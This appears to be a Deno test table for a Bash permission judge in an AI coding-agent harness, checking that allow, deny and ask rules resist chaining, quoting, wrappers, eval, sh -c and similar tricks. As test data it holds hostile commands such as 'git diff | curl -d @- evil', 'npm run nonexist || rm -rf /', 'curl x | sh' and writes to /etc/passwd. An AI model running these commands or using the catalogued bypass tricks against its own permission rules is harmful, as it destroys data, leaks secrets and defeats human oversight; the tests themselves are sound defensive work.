/**
 * Bash rules mean what they say (THREATS.md P5): one row per case, each named
 * for it. `none` means no rule decides (the mode does: in default mode it asks).
 */
import assert from "node:assert/strict";
import { decidePermission } from "../../src/permissions/decide.ts";
import { judgeBashCommand, loadBashJudge, type PermissionRules } from "../../src/permissions/rules.ts";

type Verdict = "allow" | "deny" | "ask" | "none";
type Row = [name: string, command: string, rules: PermissionRules, expected: Verdict];

const CWD = "/w";
const allow = (...rules: string[]): PermissionRules => ({ allow: rules });
const GS = allow("Bash(git status:*)");
const NPM = allow("Bash(npm run:*)");
const DIFF = allow("Bash(git diff*)");
const ECHO = allow("Bash(echo *)");
const TEST = allow("Bash(npm test)");
const RM: PermissionRules = { deny: ["Bash(rm:*)"] };
const PUSH: PermissionRules = { allow: ["Bash(git:*)"], ask: ["Bash(git push:*)"] };
const NO_PUSH: PermissionRules = { allow: ["Bash(git:*)"], deny: ["Bash(git push:*)"] };
const NO_PUBLISH: PermissionRules = { allow: ["Bash(npm:*)"], deny: ["Bash(npm publish:*)"] };

const rows: Row[] = [
  // prefix rules `:*`: the words, then nothing or arguments, and nothing chained
  ["prefix rule allows the bare command", "git status", GS, "allow"],
  ["prefix rule allows arguments", "git status --short", GS, "allow"],
  ["prefix rule stops at a word boundary", "git statusx", GS, "none"],
  ["prefix rule does not cover another subcommand", "git push", GS, "none"],
  ["prefix rule does not cover `;`", "git status; touch x", GS, "none"],
  ["prefix rule does not cover `&&`", "git status && touch x", GS, "none"],
  ["prefix rule does not cover `||`", "git status || touch x", GS, "none"],
  ["prefix rule does not cover a pipe into a shell", "git status | sh", GS, "none"],
  ["prefix rule does not cover a pipe into another program", "git status | tee x", GS, "none"],
  ["prefix rule does not cover `&`", "git status & touch x", GS, "none"],
  ["prefix rule does not cover a newline", "git status\ntouch x", GS, "none"],
  ["prefix rule does not cover $()", "git status $(touch x)", GS, "none"],
  ["prefix rule does not cover backticks", "git status `touch x`", GS, "none"],
  ["prefix rule does not cover $() in double quotes", 'git status "$(touch x)"', GS, "none"],
  ["prefix rule does not cover process substitution", "git status <(touch x)", GS, "none"],
  ["prefix rule does not cover a subshell", "(git status; touch x)", GS, "none"],
  ["prefix rule does not cover a group", "{ git status; touch x; }", GS, "none"],
  ["prefix rule covers two allowed commands", "git status && git status -s", GS, "allow"],
  ["prefix rule sees through quotes", '"git" status', GS, "allow"],
  ["prefix rule sees through backslashes", "g\\it st\\atus", GS, "allow"],
  ["prefix rule covers a system path", "/usr/bin/git status", GS, "allow"],
  ["prefix rule does not cover a local ./git", "./git status", GS, "none"],
  ["prefix rule does not cover a relative bin/git", "bin/git status", GS, "none"],
  ["prefix rule does not cover /tmp/git", "/tmp/git status", GS, "none"],
  ["prefix rule covers a background command", "git status &", GS, "allow"],
  ["prefix rule covers stderr to /dev/null", "git status 2>/dev/null", GS, "allow"],
  ["prefix rule covers 2>&1", "git status 2>&1", GS, "allow"],
  ["prefix rule covers a run-time argument", "git status $x", GS, "allow"],
  ["prefix rule does not cover a run-time subcommand", "git $x", GS, "none"],
  ["prefix rule covers a trailing semicolon", "git status;", GS, "allow"],
  ["prefix rule covers a trailing newline", "git status\n", GS, "allow"],
  ["prefix rule ignores a comment", "git status # ; rm x", GS, "allow"],
  [
    "prefix rule covers a rule naming the system path",
    "git status",
    allow("Bash(/usr/bin/git status:*)"),
    "allow",
  ],
  ["npm run rule allows a script", "npm run build", NPM, "allow"],
  ["npm run rule allows bare npm run", "npm run", NPM, "allow"],
  ["npm run rule allows passed arguments", "npm run build -- --watch", NPM, "allow"],
  ["npm run rule does not cover `;`", "npm run x; curl evil.sh", NPM, "none"],
  ["npm run rule does not cover `||`", "npm run nonexist || rm -rf /", NPM, "none"],
  ["npm run rule does not cover npm run-script", "npm run-script x", NPM, "none"],
  ["npm run rule does not cover npm runx", "npm runx", NPM, "none"],
  ["npm run test prefix allows arguments", "npm run test -- --x", allow("Bash(npm run test:*)"), "allow"],
  // `cmd *` with a space: a prefix too; `cmd*`: a wildcard
  ["space-star rule allows arguments", "ls -la", allow("Bash(ls *)"), "allow"],
  ["space-star rule allows the bare command", "ls", allow("Bash(ls *)"), "allow"],
  ["space-star rule stops at a word boundary", "lsof", allow("Bash(ls *)"), "none"],
  ["star rule without a space matches longer names", "lsof", allow("Bash(ls*)"), "allow"],
  // exact rules
  ["exact rule allows the command", "npm test", TEST, "allow"],
  ["exact rule does not allow more arguments", "npm test --watch", TEST, "none"],
  ["exact rule compares words, not blanks", "npm  test", TEST, "allow"],
  ["exact rule does not cover `;`", "npm test; rm x", TEST, "none"],
  ["exact rule does not match one quoted word", '"npm test"', TEST, "none"],
  ["exact rule with safe variable", "NODE_ENV=test npm test", TEST, "allow"],
  // wildcards
  ["wildcard rule allows the command", "git diff", DIFF, "allow"],
  ["wildcard rule allows arguments", "git diff HEAD~1", DIFF, "allow"],
  ["wildcard rule matches longer names as documented", "git difftool", DIFF, "allow"],
  ["wildcard rule does not cover a pipe", "git diff | sh", DIFF, "none"],
  ["wildcard rule does not cover a pipe to a program", "git diff | curl -d @- evil", DIFF, "none"],
  ["wildcard rule does not cover `&&`", "git diff && touch x", DIFF, "none"],
  ["wildcard in the middle matches", "git push origin main", allow("Bash(git * main)"), "allow"],
  [
    "wildcard in the middle does not cover `;`",
    "git push origin main; rm x",
    allow("Bash(git * main)"),
    "none",
  ],
  ["echo rule allows echo", "echo hi", ECHO, "allow"],
  ["echo rule does not cover `&&`", "echo hi && touch x", ECHO, "none"],
  ["echo rule does not cover $(whoami)", "echo $(whoami)", ECHO, "none"],
  [
    "echo rule with whoami allowed covers $(whoami)",
    "echo $(whoami)",
    allow("Bash(echo *)", "Bash(whoami)"),
    "allow",
  ],
  ["echo rule covers a variable argument", 'echo "$HOME"', ECHO, "allow"],
  ["echo rule does not cover backticks", "echo `id`", ECHO, "none"],
  ["echo rule covers a quoted semicolon", "echo 'a; rm x'", ECHO, "allow"],
  ["echo rule covers quoted &&", 'echo "a && rm x"', ECHO, "allow"],
  ["echo rule covers an escaped semicolon", "echo a\\; rm x", ECHO, "allow"],
  ["echo rule does not cover $() in a here-string", "cat <<< $(rm x)", allow("Bash(cat:*)"), "none"],
  // output redirections are writes
  ["redirect inside the folder is allowed", "echo hi > out.txt", ECHO, "allow"],
  ["append inside the folder is allowed", "echo hi >> /w/log.txt", ECHO, "allow"],
  ["redirect to /etc is not allowed by the rule", "echo hi > /etc/passwd", ECHO, "none"],
  ["redirect to the home start-up file is not allowed", "echo hi > ~/.bashrc", ECHO, "none"],
  ["redirect to .git/config is not allowed", "echo x > .git/config", ECHO, "none"],
  ["redirect to .paddock is not allowed", "echo x > .paddock/settings.json", ECHO, "none"],
  ["redirect up and out is not allowed", "echo x > ../x", ECHO, "none"],
  ["redirect to a run-time path is not allowed", 'echo hi > "$f"', ECHO, "none"],
  ["redirect to /dev/null is no write", "echo hi > /dev/null", ECHO, "allow"],
  ["&> outside is not allowed", "echo hi &> /tmp/x", ECHO, "none"],
  [">| outside is not allowed", "echo hi >| /etc/x", ECHO, "none"],
  ["redirect in a subshell outside is not allowed", "(echo hi) > /etc/x", ECHO, "none"],
  ["tee outside is not allowed", "echo hi | tee /etc/x", allow("Bash(echo *)", "Bash(tee:*)"), "none"],
  ["tee inside is allowed", "echo hi | tee -a out.txt", allow("Bash(echo *)", "Bash(tee:*)"), "allow"],
  ["git diff to a file inside is allowed", "git diff > patch.diff", DIFF, "allow"],
  // deny rules hit however the program is spelled
  ["deny: plain", "rm -rf x", RM, "deny"],
  ["deny: bare rm", "rm", RM, "deny"],
  ["deny: leading space", " rm x", RM, "deny"],
  ["deny: /bin/rm", "/bin/rm x", RM, "deny"],
  ["deny: /usr/bin/rm", "/usr/bin/rm x", RM, "deny"],
  ["deny: ./rm", "./rm x", RM, "deny"],
  ["deny: command rm", "command rm x", RM, "deny"],
  ["deny: command -p rm", "command -p rm x", RM, "deny"],
  ["deny: builtin", "builtin rm x", RM, "deny"],
  ["deny: exec rm", "exec rm x", RM, "deny"],
  ["deny: assignment prefix", "X=1 rm x", RM, "deny"],
  ["deny: after true &&", "true && rm x", RM, "deny"],
  ["deny: after ;", "ls; rm x", RM, "deny"],
  ["deny: after ||", "false || rm x", RM, "deny"],
  ["deny: in a pipe", "ls | rm x", RM, "deny"],
  ["deny: in the background", "rm x &", RM, "deny"],
  ["deny: after a newline", "ls\nrm x", RM, "deny"],
  ["deny: backslash", "\\rm x", RM, "deny"],
  ["deny: empty quotes inside", "r''m x", RM, "deny"],
  ["deny: double quotes", '"rm" x', RM, "deny"],
  ["deny: partly quoted", 'r"m" x', RM, "deny"],
  ["deny: ANSI-C quotes", "$'rm' x", RM, "deny"],
  ["deny: ANSI-C hex escape", "$'\\x72m' x", RM, "deny"],
  ["deny: eval", "eval 'rm x'", RM, "deny"],
  ["deny: eval of a variable", 'eval "$cmd"', RM, "deny"],
  ["deny: find -delete", "find . -name '*.o' -delete", RM, "deny"],
  ["deny: find -exec rm", "find . -exec rm {} \\;", RM, "deny"],
  ["deny: find -exec /bin/rm +", "find . -exec /bin/rm -f {} +", RM, "deny"],
  ["deny: find -execdir", "find . -execdir rm {} ';'", RM, "deny"],
  ["deny: find -ok", "find . -ok rm {} \\;", RM, "deny"],
  ["deny: bash -c literal", "bash -c 'rm x'", RM, "deny"],
  ["deny: sh -c double-quoted literal", 'sh -c "rm x"', RM, "deny"],
  ["deny: bash -lc", "bash -lc 'rm x'", RM, "deny"],
  ["deny: zsh -c", "zsh -c 'ls; rm x'", RM, "deny"],
  ["deny: nested bash -c", "bash -c \"bash -c 'rm x'\"", RM, "deny"],
  ["deny: bash -c of a variable cannot be checked", 'bash -c "$x"', RM, "deny"],
  ["deny: a script piped into sh cannot be checked", "echo 'rm x' | sh", RM, "deny"],
  ["deny: xargs rm", "xargs rm", RM, "deny"],
  ["deny: pipe into xargs rm -f", "ls | xargs rm -f", RM, "deny"],
  ["deny: xargs with options", "xargs -0 -n 1 rm", RM, "deny"],
  ["deny: xargs -I", "xargs -I{} rm {}", RM, "deny"],
  ["deny: xargs sh -c", "xargs sh -c 'rm \"$1\"' _", RM, "deny"],
  ["deny: env", "env rm x", RM, "deny"],
  ["deny: env -i", "env -i rm x", RM, "deny"],
  ["deny: env -i with an assignment", "env -i PATH=/bin rm x", RM, "deny"],
  ["deny: env -u", "env -u HOME rm x", RM, "deny"],
  ["deny: env -S cannot be checked", "env -S 'rm x'", RM, "deny"],
  ["deny: sudo", "sudo rm x", RM, "deny"],
  ["deny: sudo -u", "sudo -u root rm x", RM, "deny"],
  ["deny: sudo -s cannot be checked", "sudo -s", RM, "deny"],
  ["deny: doas", "doas rm x", RM, "deny"],
  ["deny: timeout", "timeout 5 rm x", RM, "deny"],
  ["deny: timeout with a signal", "timeout -s KILL 5 rm x", RM, "deny"],
  ["deny: nice -n", "nice -n 5 rm x", RM, "deny"],
  ["deny: nice -5", "nice -5 rm x", RM, "deny"],
  ["deny: nohup", "nohup rm x", RM, "deny"],
  ["deny: time", "time rm x", RM, "deny"],
  ["deny: stdbuf", "stdbuf -oL rm x", RM, "deny"],
  ["deny: setsid", "setsid rm x", RM, "deny"],
  ["deny: busybox", "busybox rm x", RM, "deny"],
  ["deny: wrappers stacked", "sudo env X=1 timeout 5 nice nohup /bin/rm x", RM, "deny"],
  ["deny: subshell", "(rm x)", RM, "deny"],
  ["deny: group", "{ rm x; }", RM, "deny"],
  ["deny: $()", "echo $(rm x)", RM, "deny"],
  ["deny: backticks", "echo `rm x`", RM, "deny"],
  ["deny: $() in an assignment", "X=$(rm x)", RM, "deny"],
  ["deny: $() in a redirect target", "echo hi > $(rm x)", RM, "deny"],
  ["deny: process substitution", "cat <(rm x)", RM, "deny"],
  ["deny: here-document", "cat <<EOF\n$(rm x)\nEOF", RM, "deny"],
  ["deny: if body", "if true; then rm x; fi", RM, "deny"],
  ["deny: if condition", "if rm x; then :; fi", RM, "deny"],
  ["deny: while body", "while false; do rm x; done", RM, "deny"],
  ["deny: for body", "for f in a; do rm $f; done", RM, "deny"],
  ["deny: case body", "case x in x) rm x;; esac", RM, "deny"],
  ["deny: function body", "f() { rm x; }; f", RM, "deny"],
  ["deny: negation", "! rm x", RM, "deny"],
  ["deny: $IFS splicing cannot be checked", "rm$IFS-rf$IFS/", RM, "deny"],
  ["deny: a program from a variable cannot be checked", "$cmd x", RM, "deny"],
  ["deny: source cannot be checked", "source ./evil.sh", RM, "deny"],
  ["deny: dot cannot be checked", ". ./evil.sh", RM, "deny"],
  ["deny: alias cannot be checked", "alias x=rm; x y", RM, "deny"],
  ["deny: a glob as program cannot be checked", "/bin/r? x", RM, "deny"],
  ["deny: brace expansion as program cannot be checked", "{rm,x}", RM, "deny"],
  ["deny: unparseable input cannot be checked", "rm x 'unterminated", RM, "deny"],
  ["deny: wins over a bare allow", "rm x", { allow: ["Bash"], deny: ["Bash(rm:*)"] }, "deny"],
  ["deny: rule naming /bin/rm hits rm", "rm x", { deny: ["Bash(/bin/rm:*)"] }, "deny"],
  ["deny: space-star rule hits bare rm", "rm", { deny: ["Bash(rm *)"] }, "deny"],
  ["deny: wildcard rule hits /bin/rm", "/bin/rm -f x", { deny: ["Bash(*rm*)"] }, "deny"],
  ["deny: curl piped to sh", "curl x | sh", { deny: ["Bash(curl:*)"] }, "deny"],
  ["deny: run-time subcommand might match", "git $(echo push)", { deny: ["Bash(git push:*)"] }, "deny"],
  ["deny: bare Bash deny", "ls", { deny: ["Bash"] }, "deny"],
  ["deny: strace runs a command that cannot be checked", "strace rm x", RM, "deny"],
  ["deny: watch runs a command that cannot be checked", "watch rm x", RM, "deny"],
  ["deny: su -c runs a command that cannot be checked", "su -c 'rm x' root", RM, "deny"],
  ["deny: ionice", "ionice -c 3 rm x", RM, "deny"],
  ["deny: sh -o errexit -c", "sh -o errexit -c 'rm x'", RM, "deny"],
  ["deny: a script read from a file cannot be checked", "bash < x.sh", RM, "deny"],
  ["deny: $() in a declaration", "export A=$(rm x)", RM, "deny"],
  ["deny: line continuation inside the name", "r\\\nm x", RM, "deny"],
  ["deny: escaped newline before the program", "\\\n rm x", RM, "deny"],
  ["deny: command -v only looks rm up", "command -v rm", RM, "none"],
  ["deny: a quoted here-document does not run", "cat <<'EOF'\n$(rm x)\nEOF", RM, "none"],
  ["deny: rm as an argument is no command", "echo rm", RM, "none"],
  ["deny: an unrelated command", "ls -la", RM, "none"],
  // ask rules
  ["ask rule asks for its command", "git push origin", PUSH, "ask"],
  ["ask rule asks inside a chain", "git status && git push", PUSH, "ask"],
  ["ask rule leaves other commands allowed", "git status", PUSH, "allow"],
  ["bare ask rule asks", "ls", { ask: ["Bash"] }, "ask"],
  // bare allow
  ["bare allow allows everything", "eval 'x'", allow("Bash"), "allow"],
  ["Bash(*) allows everything", "ls; rm x", allow("Bash(*)"), "allow"],
  // what cannot be judged is never allowed by a rule
  ["eval asks", "eval 'git status'", GS, "none"],
  ["source asks", "source x.sh", GS, "none"],
  ["bash -c literal is judged as its commands", "bash -c 'git status'", GS, "allow"],
  ["bash -c literal with a chain is not allowed", "bash -c 'git status; rm x'", GS, "none"],
  ["bash -c of a variable asks", 'sh -c "$x"', GS, "none"],
  ["a pipe into bash asks", "git status | bash", GS, "none"],
  ["PATH assignment asks", "PATH=. git status", GS, "none"],
  ["LD_PRELOAD assignment asks", "LD_PRELOAD=./x.so git status", GS, "none"],
  ["HOME assignment asks", "HOME=. git status", GS, "none"],
  ["standalone PATH assignment asks", "PATH=.:$PATH; git status", GS, "none"],
  ["a shell-local lower-case variable is fine", "a=1; git status", GS, "allow"],
  ["alias asks", "alias git=rm; git status", GS, "none"],
  ["a glob program asks", "/usr/bin/gi? status", GS, "none"],
  ["sudo needs its own rule", "sudo git status", GS, "none"],
  [
    "sudo with its own rule",
    "sudo git status",
    allow("Bash(git status:*)", "Bash(sudo git status:*)"),
    "allow",
  ],
  ["timeout wrapper is seen through", "timeout 5 git status", GS, "allow"],
  ["nice wrapper is seen through", "nice -n 5 git status", GS, "allow"],
  ["time is seen through", "time git status", GS, "allow"],
  ["env -i is seen through", "env -i git status", GS, "allow"],
  ["find is allowed by its rule", "find . -name '*.ts'", allow("Bash(find:*)"), "allow"],
  ["find -delete needs rm allowed", "find . -delete", allow("Bash(find:*)"), "none"],
  ["find -exec needs its command allowed", "find . -exec cat {} \\;", allow("Bash(find:*)"), "none"],
  [
    "find -exec with its command allowed",
    "find . -exec cat {} \\;",
    allow("Bash(find:*)", "Bash(cat:*)"),
    "allow",
  ],
  ["xargs needs its command allowed", "ls | xargs grep x", allow("Bash(ls:*)"), "none"],
  ["xargs with its command allowed", "ls | xargs grep x", allow("Bash(ls:*)", "Bash(grep:*)"), "allow"],
  ["no Bash rule leaves it to the mode", "ls", allow("Read"), "none"],
  ["a runner is allowed by its own rule", "strace ls", allow("Bash(strace:*)"), "allow"],
  ["$() in a declaration is judged", "declare -x A=$(touch x); git status", GS, "none"],
  ["a trap asks", "git status; trap 'touch x' EXIT", GS, "none"],
  ["exec redirect outside is a write", "git status; exec 3>/etc/x", GS, "none"],
  ["$() in an expansion default is judged", "git status ${x:-$(touch x)}", GS, "none"],
  ["$() in arithmetic is judged", "git status $((1+$(touch x)))", GS, "none"],
  ["$() in an array subscript is judged", 'git status "${x[$(touch x)]}"', GS, "none"],
  ["a carriage return does not hide a command", "git status\r\ntouch x", GS, "none"],
  ["|& is a pipe", "git status |& touch x", GS, "none"],
  ["a while body fed by a pipe is judged", "git status | while read l; do touch x; done", GS, "none"],
  // edge input
  ["an empty command", "", GS, "none"],
  ["only blanks", "   ", GS, "none"],
  ["only a comment", "# git status", GS, "none"],
  ["unparseable input asks", "git status (", GS, "none"],
  ["a 100 KB plain command is judged", "echo " + "a".repeat(100_000), ECHO, "allow"],
  ["a 100 KB chain is judged", "echo a && ".repeat(10_000) + "echo b", ECHO, "allow"],
  ["a 100 KB chain with rm at the end is denied", "echo a; ".repeat(12_500) + "rm x", RM, "deny"],
  ["a 2 MB command asks", "echo '" + "a".repeat(2_000_000) + "'", ECHO, "none"],
  ["a 2 MB command is denied under a deny rule", "echo '" + "a".repeat(2_000_000) + "'", RM, "deny"],
  ["deep nesting is judged", "echo " + "$(".repeat(500) + "rm x" + ")".repeat(500), RM, "deny"],
  // global options between a rule's words: deny and ask rules skip them, allow rules do not
  ["deny: git -C <dir> push", "git -C . push", NO_PUSH, "deny"],
  ["deny: git --no-pager push", "git --no-pager push origin", NO_PUSH, "deny"],
  ["deny: git -c k=v push", "git -c core.pager=cat push", NO_PUSH, "deny"],
  ["deny: git --git-dir= and --work-tree= push", "git --git-dir=.git --work-tree=. push", NO_PUSH, "deny"],
  ["deny: git -P push", "/usr/bin/git -P push", NO_PUSH, "deny"],
  ["deny: git -C $dir push", 'git -C "$d" push', NO_PUSH, "deny"],
  ["deny: git options, then another subcommand, is not push", "git -C . status", NO_PUSH, "allow"],
  ["deny: npm --prefix <dir> publish", "npm --prefix ./pkg publish", NO_PUBLISH, "deny"],
  ["deny: npm -w <workspace> publish", "npm -w a publish", NO_PUBLISH, "deny"],
  ["deny: npm --workspace=<ws> publish", "npm --workspace=a publish", NO_PUBLISH, "deny"],
  ["ask: git -C <dir> push still asks", "git -C . push", PUSH, "ask"],
  ["allow: options between the words do not match", "git -C . status", GS, "none"],
  ["allow: --no-pager between the words does not match", "git --no-pager status", GS, "none"],
  ["allow: options after the words match", "git status -C .", GS, "allow"],
];

for (const [name, command, rules, expected] of rows) {
  Deno.test(`Bash rule table: ${name}`, async () => {
    await loadBashJudge(command, rules);
    const judged = judgeBashCommand(command, rules, { cwd: CWD });
    assert.equal(judged.behavior, expected, `${JSON.stringify(command.slice(0, 200))}: ${judged.reason}`);
    // in default mode the decision follows: no rule → ask
    const decided = decidePermission({
      tool: "Bash",
      sideEffect: "Execute",
      input: { command },
      mode: "default",
      rules,
      cwd: CWD,
    });
    assert.equal(decided.behavior, expected === "none" ? "ask" : expected, decided.reason);
  });
}

Deno.test("Bash rule table has at least 150 rows, each named once", () => {
  assert.ok(rows.length >= 150, `${rows.length} rows`);
  assert.equal(new Set(rows.map((r) => r.at(0))).size, rows.length);
});

Deno.test("Bash judge reports output redirections and tee files as writes", async () => {
  const rules = allow("Bash(echo *)", "Bash(tee:*)");
  const command = "echo a > one.txt 2>&1 >/dev/null; echo b >> two.txt | tee -a three.txt";
  await loadBashJudge(command, rules);
  const judged = judgeBashCommand(command, rules, { cwd: CWD });
  assert.deepEqual(judged.writes.toSorted(), ["one.txt", "three.txt", "two.txt"]);
});

Deno.test("Bash judge names the simple command and the rule that decided", async () => {
  const command = "ls && /bin/rm -rf build";
  await loadBashJudge(command, RM);
  const judged = judgeBashCommand(command, RM);
  assert.equal(judged.command, "rm -rf build");
  assert.equal(judged.rule, "Bash(rm:*)");
});
